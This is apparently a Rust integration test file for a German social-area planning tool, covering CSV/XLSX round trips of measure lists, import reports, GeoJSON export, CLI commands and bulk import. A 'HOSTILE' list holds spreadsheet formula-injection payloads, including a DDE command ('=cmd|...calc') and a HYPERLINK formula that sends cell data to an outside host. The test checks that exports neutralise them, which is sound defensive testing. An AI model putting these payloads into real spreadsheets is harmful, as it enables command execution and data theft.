//! Measure lists: CSV (German Excel) and XLSX round trips that compare every field, an
//! existing Excel-style list imported with a report, the GeoJSON export with measure counts,
//! and the `measures` commands.

mod common;

use std::path::Path;

use common::{full_measure, temp_dir, test_file};
use sozialraum_atlas::app::{AppState, Command};
use sozialraum_atlas::document::edit::Edit;
use sozialraum_atlas::i18n::Lang;
use sozialraum_atlas::io::measures_table::{measures_csv, read_measures, write_measures};
use sozialraum_atlas::io::{ImportOptions, Progress, import_file};
use sozialraum_atlas::model::{
    ActionField, Measure, MeasureRegister, Responsibility, Status, Timestamp,
};

fn measures() -> Vec<Measure> {
    vec![
        Measure {
            id: 1,
            created: Timestamp(1_795_594_500),
            changed: Timestamp(1_795_598_100),
            ..full_measure()
        },
        Measure {
            id: 2,
            title: "Seniorentreff Mützenich".into(),
            fields: [ActionField::Elderly].into_iter().collect(),
            areas: vec!["M 2".into()],
            municipalities: vec!["Monschau".into()],
            responsibility: Responsibility::Advocate,
            status: Status::Idea,
            created: Timestamp(1_795_594_500),
            changed: Timestamp(1_795_594_500),
            ..Measure::default()
        },
    ]
}

fn demo_region() -> sozialraum_atlas::model::Region {
    sozialraum_atlas::io::demo::load_demo(&Progress::default())
        .expect("demo")
        .region
}

fn round_trip(path: &Path, lang: Lang) {
    let region = demo_region();
    write_measures(path, &measures(), lang).expect("written");
    let (read, report) =
        read_measures(path, &region, &MeasureRegister::default(), lang).expect("read");
    assert_eq!(report.taken, 2, "{report:?}");
    assert!(
        report.skipped.is_empty() && report.notes.is_empty(),
        "{report:?}"
    );
    let mut expected = measures();
    for m in &mut expected {
        m.id = 0;
    }
    assert_eq!(read, expected);
}

#[test]
fn a_csv_for_german_excel_round_trips_every_field() {
    let dir = temp_dir("csv");
    round_trip(&dir.join("maßnahmen.csv"), Lang::De);
    let bytes = std::fs::read(dir.join("maßnahmen.csv")).expect("read");
    assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]), "BOM for Excel");
    let text = String::from_utf8(bytes).expect("utf-8");
    assert!(text.contains("Nr;Titel;Beschreibung;"), "{text}");
    assert!(text.contains(";12500,5;"), "German decimal comma: {text}");
    assert!(text.contains(";01.03.2027;"), "German date: {text}");
    round_trip(&dir.join("measures.csv"), Lang::En);
}

#[test]
fn an_xlsx_round_trips_every_field() {
    let dir = temp_dir("xlsx");
    round_trip(&dir.join("Maßnahmen.xlsx"), Lang::De);
}

#[test]
fn an_existing_list_imports_with_a_report_of_what_was_not_taken() {
    let region = demo_region();
    let existing = MeasureRegister::from_measures(measures(), 3);
    let (taken, report) = read_measures(
        &test_file("measures/bestandsliste.csv"),
        &region,
        &existing,
        Lang::De,
    )
    .expect("read");
    let titles: Vec<&str> = taken.iter().map(|m| m.title.as_str()).collect();
    assert_eq!(titles, ["Sprachcafé Eschweiler-Ost", "Spielplatz Würselen"]);
    assert_eq!(taken[0].budget_eur, Some(12_500.0), "German thousands");
    assert_eq!(taken[0].responsibility, Responsibility::Influence);
    assert_eq!(
        taken[0].municipalities,
        ["Eschweiler"],
        "derived from the areas"
    );
    assert_eq!(taken[1].start, None, "\"Frühjahr\" is no date");
    let skipped: Vec<usize> = report.skipped.iter().map(|(line, _)| *line).collect();
    assert_eq!(skipped, [4, 5, 6], "{report:?}");
    assert!(report.skipped[0].1.contains("Titel fehlt"));
    assert!(report.skipped[1].1.contains("Ende liegt vor dem Beginn"));
    assert!(report.skipped[2].1.contains("gibt es schon"));
    let notes: Vec<&str> = report.notes.iter().map(|(_, n)| n.as_str()).collect();
    assert!(notes.iter().any(|n| n.contains("„XY 99“")), "{notes:?}");
    assert!(notes.iter().any(|n| n.contains("„Frühjahr“")), "{notes:?}");
}

#[test]
fn a_list_without_a_title_column_is_refused_with_the_columns_it_has() {
    let dir = temp_dir("no-title");
    let path = dir.join("liste.csv");
    std::fs::write(&path, "Name der Sache;Ort\nA;B\n").expect("write");
    let e = read_measures(&path, &demo_region(), &MeasureRegister::default(), Lang::De)
        .expect_err("no title");
    let text = e.describe(Lang::De);
    assert!(
        text.contains("liste.csv") && text.contains("Name der Sache"),
        "{text}"
    );
}

#[test]
fn the_geojson_export_carries_measure_counts_and_reopens_without_them_as_indicator() {
    let dir = temp_dir("geojson-counts");
    let out = dir.join("sozialräume.geojson");
    let mut state = AppState::new(|| {});
    state.apply(Command::OpenDemo);
    for m in measures() {
        state.apply(Command::Edit(Edit::AddMeasure(Box::new(m))));
    }
    state.apply(Command::SaveMap(out.clone()));
    assert!(state.error.is_none(), "{:?}", state.error);
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&out).expect("read")).expect("json");
    let count_of = |code: &str| {
        json["features"]
            .as_array()
            .expect("features")
            .iter()
            .find(|f| f["properties"]["code"] == code)
            .map(|f| f["properties"]["massnahmen"].clone())
    };
    assert_eq!(count_of("AC 3"), Some(serde_json::json!(1)));
    assert_eq!(count_of("M 2"), Some(serde_json::json!(1)));
    assert_eq!(count_of("AC 1"), Some(serde_json::json!(0)));
    let reopened = import_file(&out, &ImportOptions::default(), &Progress::default()).expect("ok");
    assert!(reopened.indicators.position("massnahmen").is_none());
}

#[test]
fn the_measures_commands_import_and_export_a_project() {
    let dir = temp_dir("cli-measures");
    let project = dir.join("projekt.gpkg");
    let exe = env!("CARGO_BIN_EXE_sozialraum-atlas");
    let demo = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("maps/staedteregion_aachen_demo.geojson");
    let run = |args: &[&std::ffi::OsStr]| {
        std::process::Command::new(exe)
            .args(args)
            .output()
            .expect("runs")
    };
    let out = run(&[
        "project".as_ref(),
        "new".as_ref(),
        demo.as_os_str(),
        "--out".as_ref(),
        project.as_os_str(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let list = dir.join("liste.csv");
    std::fs::write(&list, measures_csv(&measures(), Lang::De)).expect("write");
    let out = run(&[
        "measures".as_ref(),
        "import".as_ref(),
        project.as_os_str(),
        list.as_os_str(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("2 Maßnahmen übernommen"));
    // Importing the same list again takes nothing twice.
    let out = run(&[
        "measures".as_ref(),
        "import".as_ref(),
        project.as_os_str(),
        list.as_os_str(),
    ]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("0 Maßnahmen übernommen"));
    let back = dir.join("zurück.csv");
    let out = run(&[
        "measures".as_ref(),
        "export".as_ref(),
        project.as_os_str(),
        back.as_os_str(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (read, _) =
        read_measures(&back, &demo_region(), &MeasureRegister::default(), Lang::De).expect("read");
    let mut expected = measures();
    for m in &mut expected {
        m.id = 0;
    }
    assert_eq!(read, expected);
    // A file that is not a project: exit 2 and a message naming it.
    let out = run(&[
        "measures".as_ref(),
        "export".as_ref(),
        list.as_os_str(),
        back.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("liste.csv"));
}

/// Titles a spreadsheet would run as formulas, and texts that merely look close.
const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"http://example.org/?d=\"&A1;\"Details\")",
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+49 241 5198 0",
    "-2+3",
    "\t=1+1",
    "'=schon mit Hochkomma",
    "'s-Hertogenbosch",
    "Quartiersbüro; „Mühle“ = Treff",
];

fn hostile_measures() -> Vec<Measure> {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(k, title)| Measure {
            id: k as i64 + 1,
            title: (*title).into(),
            lead: "=1+1".into(),
            notes: "@A1".into(),
            areas: vec!["AC 3".into()],
            ..Measure::default()
        })
        .collect()
}

#[test]
fn formula_cells_are_neutralised_in_csv_and_xlsx_and_come_back_as_the_same_text() {
    let dir = temp_dir("hostile-cells");
    let region = demo_region();
    for name in ["liste.csv", "liste.xlsx"] {
        let path = dir.join(name);
        write_measures(&path, &hostile_measures(), Lang::De).expect("written");
        if name.ends_with(".csv") {
            let text = std::fs::read_to_string(&path).expect("read");
            for line in text.lines().skip(1) {
                for cell in line.split(';') {
                    let cell = cell.trim_start_matches('"');
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "a formula cell in {line:?}"
                    );
                }
            }
            assert!(text.contains("'=HYPERLINK("), "{text}");
            assert!(text.contains("'@SUM(A1:A9)"), "{text}");
        }
        let (read, report) =
            read_measures(&path, &region, &MeasureRegister::default(), Lang::De).expect("read");
        assert_eq!(report.taken, HOSTILE.len(), "{name}: {report:?}");
        let titles: Vec<&str> = read.iter().map(|m| m.title.as_str()).collect();
        assert_eq!(titles, HOSTILE, "{name}: every text as it was");
        assert!(
            read.iter().all(|m| m.lead == "=1+1" && m.notes == "@A1"),
            "{name}"
        );
    }
}

#[test]
fn an_over_long_cell_is_reported_per_row_and_never_ends_the_export() {
    let dir = temp_dir("long-cell");
    let mut list = measures();
    // Longer than an Excel cell holds (a text another program put into the project file).
    list[1].description = "Sehr lang ".repeat(4_000);
    let path = dir.join("liste.xlsx");
    let notes = write_measures(&path, &list, Lang::De).expect("the list is written");
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(
        notes[0].contains("Zeile 3") && notes[0].contains("Beschreibung"),
        "{notes:?}"
    );
    let table = sozialraum_atlas::io::table::read_table(&path).expect("read");
    assert_eq!(table.rows.len(), 2, "both rows are there");
    let cell = table.rows[1][2].text();
    assert_eq!(cell.chars().count(), 32_767, "cut at what Excel holds");
    // On import, a text longer than its field takes is refused for that row, by name.
    let csv = dir.join("lang.csv");
    std::fs::write(
        &csv,
        format!(
            "Titel;Sozialräume\nkurz;AC 1\n{};AC 2\nauch kurz;AC 3\n",
            "T".repeat(1_000_000)
        ),
    )
    .expect("write");
    let (read, report) =
        read_measures(&csv, &demo_region(), &MeasureRegister::default(), Lang::De).expect("read");
    assert_eq!(read.len(), 2);
    assert_eq!(report.skipped.len(), 1, "{report:?}");
    let (line, why) = &report.skipped[0];
    assert_eq!(*line, 3);
    assert!(
        why.contains("Titel ist zu lang") && why.contains("1.000.000") && why.contains("300"),
        "{why}"
    );
}

#[test]
fn a_list_of_20_000_measures_goes_in_as_one_transaction_with_progress() {
    let dir = temp_dir("bulk-import");
    let project = dir.join("projekt.gpkg");
    let demo = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("maps/staedteregion_aachen_demo.geojson");
    let exe = env!("CARGO_BIN_EXE_sozialraum-atlas");
    let status = std::process::Command::new(exe)
        .args(["project", "new"])
        .arg(&demo)
        .arg("--out")
        .arg(&project)
        .status()
        .expect("runs");
    assert!(status.success());
    let list = dir.join("liste.csv");
    let mut csv = String::from("Titel;Sozialräume;Budget (€)\n");
    for k in 0..20_000 {
        csv.push_str(&format!("Maßnahme {k};AC {};{}\n", 1 + k % 14, 100 + k));
    }
    std::fs::write(&list, csv).expect("list");
    let started = std::time::Instant::now();
    let out = std::process::Command::new(exe)
        .args(["measures", "import"])
        .arg(&project)
        .arg(&list)
        .output()
        .expect("runs");
    let took = started.elapsed();
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("20.000 Maßnahmen übernommen"), "{text}");
    assert!(
        text.contains("10.000 von 20.000 Maßnahmen geschrieben"),
        "{text}"
    );
    eprintln!(
        "20,000 measures imported in {:.2} s (debug build)",
        took.as_secs_f64()
    );
    let conn = rusqlite::Connection::open(&project).expect("open");
    let n: i64 = conn
        .query_row("SELECT count(*) FROM massnahmen", [], |r| r.get(0))
        .expect("count");
    assert_eq!(n, 20_000);
    let counted: i64 = conn
        .query_row("SELECT sum(massnahmen) FROM sozialraeume", [], |r| r.get(0))
        .expect("counts");
    assert_eq!(
        counted, 20_000,
        "the layer's counts in the same transaction"
    );
}
